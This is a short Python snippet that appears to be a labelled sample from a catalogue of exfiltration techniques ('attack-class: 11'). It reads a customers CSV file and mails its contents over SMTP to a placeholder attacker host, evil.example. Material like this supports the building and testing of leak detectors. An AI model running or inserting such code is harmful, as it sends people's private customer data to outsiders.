# attack-class: 11
# title: smtplib sends a file by mail
# why: SMTP is an outbound channel too

import smtplib

msg = "Subject: data\n\n" + open("/data/customers.csv").read()
with smtplib.SMTP("mail.evil.example", 25) as s:
    s.sendmail("a@evil.example", ["b@evil.example"], msg)
